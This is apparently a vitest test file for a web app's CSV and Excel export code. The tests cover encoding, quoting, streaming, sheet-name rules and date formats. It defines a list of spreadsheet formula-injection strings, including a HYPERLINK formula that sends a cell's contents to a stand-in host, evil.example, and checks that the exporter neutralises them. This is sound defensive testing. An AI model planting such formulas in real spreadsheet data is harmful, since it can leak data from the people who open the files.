import ExcelJS from "exceljs";
import { describe, expect, test } from "vitest";
import { firstRow, itemAt } from "./arrays";
import { csvStream, dateTime, sheetName, xlsxStream } from "./spreadsheet.server";

const bytesOf = async (stream: ReadableStream<Uint8Array>) => new Uint8Array(await new Response(stream).arrayBuffer());
const textOf = async (stream: ReadableStream<Uint8Array>) =>
  new TextDecoder("utf-8", { ignoreBOM: true }).decode(await bytesOf(stream));

/** What a producer could type as a product's name to plant a formula in an organiser's spreadsheet. */
const ATTACKS = [
  '=HYPERLINK("http://evil.example/?q="&A1,"Bấm vào đây")',
  "+1",
  "-2+3",
  "@SUM(A1:A9)",
  "\t=1+1",
  "\r=1+1",
  "＝1+1",
];

describe("CSV", () => {
  test("is UTF-8 with a byte-order mark, CRLF line ends, and quotes commas, semicolons, quotes and line breaks", async () => {
    const bytes = await bytesOf(
      csvStream({
        header: ["Mã", "Tên sản phẩm"],
        rows: [
          ["BN-1", "Mỳ gạo Chũ"],
          ["BN-2", 'Bánh "đa", nem; chả\nlụa'],
        ],
      }),
    );
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(new TextDecoder().decode(bytes.slice(3))).toBe(
      'Mã,Tên sản phẩm\r\nBN-1,Mỳ gạo Chũ\r\nBN-2,"Bánh ""đa"", nem; chả\nlụa"\r\n',
    );
  });

  test("turns every cell that starts like a formula into text with a leading apostrophe (OWASP)", async () => {
    const text = await textOf(csvStream({ header: ATTACKS, rows: [ATTACKS] }));
    const line =
      '"\'=HYPERLINK(""http://evil.example/?q=""&A1,""Bấm vào đây"")",\'+1,\'-2+3,\'@SUM(A1:A9),\'\t=1+1,"\'\r=1+1",\'＝1+1';
    expect(text).toBe(`\uFEFF${line}\r\n${line}\r\n`);
  });

  test("leaves numbers as numbers: a plain negative number is not a formula, anything more is text", async () => {
    const text = await textOf(
      csvStream({ header: ["n"], rows: [["-2"], ["85.5"], ["-0.25"], ["0"], ["-2.50"], ["-1e3"], ["- 2"], ["-"]] }),
    );
    expect(text.slice(1).split("\r\n")).toEqual(["n", "-2", "85.5", "-0.25", "0", "'-2.50", "'-1e3", "'- 2", "'-", ""]);
  });

  test("streams: the first bytes come while most rows have not been read, and a reader that stops is not outrun", async () => {
    let read = 0;
    function* rows() {
      for (let i = 0; i < 5000; i++) {
        read++;
        yield [`GCN-${i}`, "Sản phẩm thử nghiệm với một cái tên khá dài cho một dòng CSV"];
      }
    }
    const reader = csvStream({ header: ["Số", "Tên"], rows: rows() }).getReader();
    const first = await reader.read();
    expect(first.done).toBe(false);
    expect(read).toBeLessThan(5000);
    await new Promise((resolve) => setTimeout(resolve, 50));
    expect(read).toBeLessThan(5000); // nobody reads: the writer waits
    let lines = (new TextDecoder().decode(first.value).match(/\r\n/g) ?? []).length;
    for (let chunk = await reader.read(); !chunk.done; chunk = await reader.read())
      lines += (new TextDecoder().decode(chunk.value).match(/\r\n/g) ?? []).length;
    expect(read).toBe(5000);
    expect(lines).toBe(5001);
  });
});

describe("Excel", () => {
  const load = async (stream: ReadableStream<Uint8Array>) => {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await bytesOf(stream)).buffer as ArrayBuffer);
    return workbook;
  };

  test("writes each sheet with its own column widths, a bold frozen header and filter buttons when asked", async () => {
    const workbook = await load(
      xlsxStream(
        [
          {
            name: "Danh sách: 2026/BN",
            widths: [12, 40],
            header: ["Mã", "Tên"],
            autoFilter: true,
            rows: [
              ["BN-1", "Mỳ gạo Chũ"],
              ["BN-2", "Vải thiều"],
            ],
          },
          {
            name: "Thông tin",
            widths: [22, 100],
            rows: [{ cells: ["Danh sách sản phẩm"], bold: true }, ["Nguồn", "http://localhost/products"]],
          },
        ],
        { creator: "Tiêu Biểu", created: new Date("2026-02-01T00:00:00Z") },
      ),
    );
    expect(workbook.creator).toBe("Tiêu Biểu");
    const list = itemAt(workbook.worksheets, 0, "worksheets");
    const about = itemAt(workbook.worksheets, 1, "worksheets");
    expect(list.name).toBe("Danh sách 2026 BN");
    expect([list.getColumn(1).width, list.getColumn(2).width]).toEqual([12, 40]);
    expect(list.getRow(1).values).toEqual([undefined, "Mã", "Tên"]);
    expect(list.getCell("A1").font?.bold).toBe(true);
    expect(list.getCell("A2").font?.bold).toBeFalsy();
    expect(list.views[0]).toMatchObject({ state: "frozen", ySplit: 1 });
    expect(list.autoFilter).toBe("A1:B1");
    expect(list.getCell("B3").value).toBe("Vải thiều");
    expect([about.getColumn(1).width, about.getColumn(2).width]).toEqual([22, 100]);
    expect(about.getCell("A1").font?.bold).toBe(true);
    expect(about.getCell("B2").value).toBe("http://localhost/products");
    expect(about.autoFilter).toBeFalsy();
  });

  test("keeps every cell a plain string, formulas included", async () => {
    const workbook = await load(
      xlsxStream([{ name: "x", widths: [10], header: ["Tên"], rows: ATTACKS.map((a) => [a]) }], {
        creator: "Tiêu Biểu",
      }),
    );
    const sheet = firstRow(workbook.worksheets, "worksheets");
    ATTACKS.forEach((attack, i) => {
      const cell = sheet.getCell(i + 2, 1);
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.value).toBe(attack.replace(/\r/g, "\n")); // XML reads a lone CR as a line feed
    });
  });

  test("a sheet name keeps Excel's rules and is cut between words", () => {
    expect(sheetName("Đợt bình chọn cấp tỉnh Bắc Ninh năm 2026 [đợt 1]")).toBe("Đợt bình chọn cấp tỉnh Bắc Ninh");
    expect(sheetName("Bình chọn sản phẩm CNNT tiêu biểu tỉnh Bắc Giang năm 2024")).toBe("Bình chọn sản phẩm CNNT tiêu");
    expect(sheetName("Kết quả bình chọn – khu vực phía Bắc")).toBe("Kết quả bình chọn – khu vực");
    expect(sheetName("Danhsáchrấtdàikhôngcókhoảngtrắngnàocả")).toHaveLength(31);
    expect(sheetName("  ", "DS")).toBe("DS");
    for (const name of [
      "Bình chọn sản phẩm CNNT tiêu biểu tỉnh Bắc Giang năm 2024",
      "Đợt bình chọn cấp tỉnh Bắc Ninh năm 2026 [đợt 1]",
    ]) {
      const cut = sheetName(name);
      expect(Array.from(cut).length).toBeLessThanOrEqual(31);
      expect(name.startsWith(cut) || name.replace(/[[\]]/g, " ").startsWith(cut)).toBe(true);
      expect(name.charAt(cut.length)).toMatch(/[\s[]/); // the next character starts a new word
    }
  });

  test("numbers are number cells, days are dates shown dd/mm/yyyy, moments dd/mm/yyyy hh:mm", async () => {
    const day = new Date("2024-05-12T17:00:00Z"); // 13/05/2024 00:00 in Hà Nội
    const moment = new Date("2026-03-02T01:30:00Z"); // 02/03/2026 08:30 in Hà Nội
    const workbook = await load(
      xlsxStream(
        [
          {
            name: "Kết quả",
            widths: [6, 8, 12, 18, 10],
            header: ["STT", "Điểm", "Ngày", "Lúc", "Ghi chú"],
            rows: [[1, 85.5, day, dateTime(moment), null]],
          },
        ],
        {
          creator: "Tiêu Biểu",
        },
      ),
    );
    const row = firstRow(workbook.worksheets, "worksheets").getRow(2);
    expect(row.getCell(1).type).toBe(ExcelJS.ValueType.Number);
    expect(row.getCell(1).value).toBe(1);
    expect(row.getCell(2).type).toBe(ExcelJS.ValueType.Number);
    expect(row.getCell(2).value).toBe(85.5);
    expect(row.getCell(3).type).toBe(ExcelJS.ValueType.Date);
    expect(row.getCell(3).numFmt).toBe("dd/mm/yyyy");
    expect((row.getCell(3).value as Date).toISOString()).toBe("2024-05-13T00:00:00.000Z");
    expect(row.getCell(4).type).toBe(ExcelJS.ValueType.Date);
    expect(row.getCell(4).numFmt).toBe("dd/mm/yyyy hh:mm");
    expect((row.getCell(4).value as Date).toISOString()).toBe("2026-03-02T08:30:00.000Z");
    expect(row.getCell(5).type).toBe(ExcelJS.ValueType.Null);

    const csv = await textOf(
      csvStream({ header: ["STT", "Điểm", "Ngày", "Lúc", "Ghi chú"], rows: [[1, 85.5, day, dateTime(moment), null]] }),
    );
    expect(csv.slice(1).split("\r\n")[1]).toBe("1,85.5,13/05/2024,02/03/2026 08:30,");
  });
});
